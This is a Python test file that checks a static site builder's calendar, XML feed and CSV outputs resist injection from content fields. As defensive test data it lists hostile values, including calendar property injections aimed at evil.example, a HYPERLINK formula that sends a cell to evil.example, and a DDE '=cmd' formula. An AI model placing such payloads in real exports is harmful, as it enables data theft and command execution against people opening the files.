"""What a content writer types cannot change the structure of the files we write: a calendar
property of its own, XML that no longer parses, or a spreadsheet formula.

Each test tries several hostile values, not one example, and reads the output with an
independent reader (the icalendar library, xml.etree, the csv module)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import icalendar
import pytest
import yaml

from site_builder import cli
from site_builder.content import Entry
from site_builder.errors import BuildFailed
from site_builder.feeds import CalendarEvent, FeedItem, SitemapEntry, atom_feed, sitemap
from site_builder.feeds import icalendar as write_calendar
from site_builder.importers import import_file
from site_builder.models import Plan
from site_builder.pipeline import build
from site_builder.plan_data import plan_csv
from site_builder.published import plan_view
from site_builder.spreadsheet import csv_text, read_cell
from site_builder.xmltext import xml_attribute, xml_chars, xml_text
from tests.sites import TODAY, TinySite

# Values that tried to break out of their property, or to break the folding of lines.
CALENDAR_VALUES = [
    "Room 1\nORGANIZER:mailto:boss@evil.example",
    "Room 1\r\nATTENDEE:mailto:all@evil.example",
    "Hall\rEND:VEVENT",
    "Lab;with,commas\\and a backslash",
    "trailing backslash \\",
    "a\ttab and a bell\x07 and an escape \x1b[31m and a NUL \x00",
    "line\u2028separator and next\x85line",
    "é" * 80,
    "x" * 73 + "é" * 5,
    "😀" * 40,
    "x" * 72 + "\\n" + "y" * 80,
    ",;" * 60,
]


def _calendar(value: str) -> bytes:
    event = CalendarEvent(
        uid="talk@x.example",
        title=value,
        start=dt.datetime(2026, 7, 1, 10, 0),
        end=None,
        place=value,
        description=value,
        url="https://x.example/news/talk/",
        created=dt.date(2026, 6, 1),
    )
    return write_calendar(event, "Europe/London", value).encode("utf-8")


def _expected(value: str) -> str:
    """What a calendar program should show: line breaks as line breaks, no control characters."""
    text = re.sub(r"\r\n|\r|\n|\u2028|\u2029|\x85", "\n", value)
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", text)


@pytest.mark.parametrize("value", CALENDAR_VALUES)
def test_icalendar_lines_are_crlf_folded_at_75_octets_and_whole_characters(value: str) -> None:
    data = _calendar(value)
    assert re.search(rb"\r(?!\n)|(?<!\r)\n", data) is None, "a bare CR or LF"
    lines = data.split(b"\r\n")
    assert lines[-1] == b""
    for line in lines[:-1]:
        assert len(line) <= 75, line
        line.decode("utf-8")  # each folded piece is whole UTF-8: no character was split
        assert re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line) is None, line


@pytest.mark.parametrize("value", CALENDAR_VALUES)
def test_icalendar_values_cannot_add_properties(value: str) -> None:
    unfolded = _calendar(value).decode("utf-8").replace("\r\n ", "").split("\r\n")[:-1]
    names = [re.match(r"[A-Z-]+", line).group() for line in unfolded]  # type: ignore[union-attr]
    assert names == [
        "BEGIN", "VERSION", "PRODID", "CALSCALE", "METHOD", "BEGIN", "UID", "DTSTAMP",
        "DTSTART", "DTEND", "SUMMARY", "LOCATION", "DESCRIPTION", "URL", "END", "END",
    ]  # fmt: skip


@pytest.mark.parametrize("value", CALENDAR_VALUES)
def test_icalendar_reads_back_as_written_in_another_reader(value: str) -> None:
    calendar = icalendar.Calendar.from_ical(_calendar(value))
    (event,) = calendar.walk("VEVENT")
    for name in ("SUMMARY", "LOCATION", "DESCRIPTION"):
        assert str(event[name]) == _expected(value), name
    assert "ORGANIZER" not in event and "ATTENDEE" not in event
    assert str(calendar["PRODID"]) == f"-//{_expected(value)}//site_builder//EN"


EVENT = """\
---
title: "Open lab{hostile}"
date: 2026-10-01
summary: "Come and see{hostile}"
event:
  start: 2026-12-01 10:00
  place: "Room 1{hostile}"
  address: "1 Main Street{hostile}"
---

Details.
"""

HOSTILE_YAML = [
    "\\nORGANIZER:mailto:boss@evil.example",
    "\\r\\nATTENDEE;RSVP=TRUE:mailto:all@evil.example",
    "\\rBEGIN:VALARM",
    "; a, b \\\\ c",
]


@pytest.mark.parametrize("hostile", HOSTILE_YAML)
def test_built_event_calendar_keeps_the_place_in_its_property(
    tiny_site: TinySite, hostile: str
) -> None:
    tiny_site.write("content/news/2026-10-01-open-lab.md", EVENT.format(hostile=hostile))
    build(tiny_site.options())
    (path,) = (tiny_site.root / "output").rglob("*.ics")
    data = path.read_bytes()
    assert re.search(rb"\r(?!\n)|(?<!\r)\n", data) is None
    (event,) = icalendar.Calendar.from_ical(data).walk("VEVENT")
    assert [k for k in event if k in {"ORGANIZER", "ATTENDEE"}] == []
    assert not event.walk("VALARM")
    assert str(event["LOCATION"]).startswith("Room 1")
    assert str(event["LOCATION"]).endswith("1 Main Street" + _expected(hostile_text(hostile)))


def hostile_text(hostile: str) -> str:
    """The YAML double-quoted escapes in HOSTILE_YAML, as the value the writer typed."""
    return (
        hostile.replace("\\r", "\r").replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")
    )


# --- XML: every character XML 1.0 does not allow is removed --------------------------------------

NOT_XML = [
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\ud800",
    "\ufffe",
    "\uffff",
]


def _xml_files(output: Path) -> list[Path]:
    return sorted(p for p in output.rglob("*") if p.suffix in {".xml", ".atom", ".rss"})


@pytest.mark.parametrize("bad", NOT_XML)
def test_feed_and_sitemap_functions_drop_characters_xml_forbids(bad: str) -> None:
    text = f"News{bad} & <views>{bad}"
    item = FeedItem(
        text, f"https://x.example/a{bad}/", dt.date(2026, 1, 2), dt.date(2026, 1, 2), text,
        f"<p>{text}</p>", (f"theme{bad}",),
    )  # fmt: skip
    feed = atom_feed(
        title=text, site_url="https://x.example/", feed_url="https://x.example/feed.xml",
        author=text, items=[item], updated=dt.date(2026, 1, 2),
    )  # fmt: skip
    root = ElementTree.fromstring(feed.encode("utf-8", "surrogatepass"))
    atom = {"a": "http://www.w3.org/2005/Atom"}
    assert root.findtext("a:title", namespaces=atom) == "News & <views>"
    assert root.findtext("a:entry/a:summary", namespaces=atom) == "News & <views>"
    assert root.find("a:entry/a:category", atom).get("term") == "theme"  # type: ignore[union-attr]
    urls = ElementTree.fromstring(sitemap([SitemapEntry(f"https://x.example/{bad}a/")]))
    assert [u.findtext("{*}loc") for u in urls] == ["https://x.example/a/"]


def test_xml_keeps_every_allowed_character() -> None:
    allowed = "\t\n\r tab é ∑ 😀 \x7f \x85 \ud7ff \ue000 \ufffd \U0010ffff"
    assert xml_chars(allowed) == allowed
    root = ElementTree.fromstring(f"<a b={xml_attribute(allowed)}>{xml_text(allowed)}</a>")
    assert root.get("b") == allowed
    assert root.text == allowed.replace("\r", "\n")  # as XML reads every line break


# YAML double-quoted escapes: the characters reach the content as they would from a paste.
CONTROLS_YAML = ["\\x01", "\\x08", "\\e", "\\x0b\\x0c", "\\x1f", "\\uFFFE"]

NEWS_WITH = """\
---
title: "Award{bad} winners"
date: 2026-10-02
summary: "Three{bad} technicians"
---

Body text.
"""


@pytest.mark.parametrize("bad", CONTROLS_YAML)
def test_every_xml_file_built_parses_with_control_characters_in_titles(
    tiny_site: TinySite, bad: str
) -> None:
    tiny_site.write("content/news/2026-10-02-award.md", NEWS_WITH.format(bad=bad))
    site = (tiny_site.root / "content/site.yaml").read_text()
    short = 'short_name: "Test' + bad + 'ford"'
    tiny_site.write("content/site.yaml", site.replace("short_name: Testford", short))
    # Control characters in content are refused where they are written (limits.py): the build
    # says where, and the XML is built once they are fixed; any that pass must not break it.
    try:
        build(tiny_site.options())
    except BuildFailed as refused:
        named = {problem.path.name for problem in refused.problems if problem.path}
        assert named == {"2026-10-02-award.md", "site.yaml"}, refused.problems
        tiny_site.write("content/site.yaml", site)
        tiny_site.write("content/news/2026-10-02-award.md", NEWS_WITH.format(bad=""))
        build(tiny_site.options())
    files = _xml_files(tiny_site.root / "output")
    assert {p.name for p in files} >= {"feed.xml", "sitemap.xml"}
    for path in files:
        ElementTree.parse(path)  # raises on a character XML does not allow
    feed = ElementTree.parse(tiny_site.root / "output/feed.xml").getroot()
    titles = [t.text for t in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Award winners" in titles and "Testford technicians: news and events" in titles


# --- CSV: no cell runs as a formula in a spreadsheet --------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
    "＝1+1",
]
HARMLESS = ["-3", "+1.5", "-0.25", "Plain text", "a = b", "", "'just a quote", "e-mail"]
DANGER = tuple("=+-@\t\r\n＝＋－＠")


def _is_safe(cell: str) -> bool:
    return not cell.startswith(DANGER) or re.fullmatch(r"[+-][\d.]+", cell) is not None


@pytest.mark.parametrize("value", FORMULAS + HARMLESS)
def test_a_csv_cell_is_quoted_text_or_harmless_and_reads_back(value: str) -> None:
    text = csv_text(["a", "b"], [[value, "x"]])
    assert text.startswith("\ufeff")
    (header, row) = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert header == ["a", "b"] and _is_safe(row[0]) and row[1] == "x"
    assert row[0] == value or row[0] == "'" + value
    assert read_cell(row[0]) == value
    assert text.lstrip("\ufeff").startswith('"a","b"\r\n"')  # every field is quoted


PLAN_WITH = """\
title: Action plan 2025-2028
period: {{start: 2025-09-01, end: 2028-08-31}}
current: true
themes:
  visibility:
    goal: Make technical work seen.
    actions:
      - title: "{value} in the title"
        details: "{value}"
        lead: ["{value}", Web team]
        evidence: "{value}"
        status: complete
  recognition:
    goal: Recognise technical contributions.
    actions:
      - title: Start an annual award
  career_development:
    goal: Grow careers.
    actions:
      - title: Fund registration fees
  sustainability:
    goal: Plan for the future workforce.
    actions:
      - title: Start an apprenticeship scheme
"""

# YAML double-quoted forms of hostile plan cells (a tab and a CR typed as escapes).
PLAN_VALUES = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(1)", "\\t=1+1", "\\r=1+1", "=HYPERLINK(A1)"]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", PLAN_VALUES)
def test_plan_csv_download_and_cms_manifest_never_hold_a_formula(
    tiny_site: TinySite, tmp_path: Path, value: str
) -> None:
    tiny_site.write("content/plans/2025-2028.yaml", PLAN_WITH.format(value=value))
    tiny_site.write(
        "content/pages/about.md", f'---\ntitle: "{value}"\nsummary: "{value}"\n---\nx\n'
    )
    build(tiny_site.options())
    (download,) = (tiny_site.root / "output").rglob("2025-2028.csv")
    out = tmp_path / "cms.zip"
    command = ["export", "cms", "-q", "--content", str(tiny_site.content), "--out", str(out)]
    assert cli.main([*command, "--today", "2026-11-24"]) == 0
    with zipfile.ZipFile(out) as archive:
        manifest = archive.read("manifest.csv")
    typed = hostile_text(value)
    for data in (download.read_bytes(), manifest):
        rows = _csv_rows(data)
        cells = [cell for row in rows for cell in row]
        assert all(_is_safe(cell) for cell in cells), [c for c in cells if not _is_safe(c)]
        # the value is there, as text (validation strips a title's leading tab or CR)
        assert {"'" + typed, "'" + typed.strip()} & set(cells)
    plan = _csv_rows(download.read_bytes())
    assert read_cell(plan[1][plan[0].index("details")]) in {typed, typed.strip()}


ROUND_TRIP = ["=1+1 counted", "+44 20 7946 0000", "-2 days early", "@technicians", "'=quoted"]


@pytest.mark.parametrize("value", ROUND_TRIP)
def test_our_plan_csv_imports_back_with_the_values_as_written(tmp_path: Path, value: str) -> None:
    plan = Plan.model_validate(yaml.safe_load(PLAN_WITH.format(value=value.replace('"', '\\"'))))
    view = plan_view(Entry("2025-2028", Path("content/plans/2025-2028.yaml"), plan))
    path = tmp_path / "2025-2028.csv"
    path.write_text(plan_csv(view, lambda v: f"https://x.example/#{v.anchor}"), encoding="utf-8")
    back = Plan.model_validate(yaml.safe_load(import_file(path, today=TODAY).text))
    (first, *_) = back.themes.visibility.actions
    assert first.title == f"{value} in the title"
    assert (first.details, first.evidence, first.lead[0]) == (value, value, value)
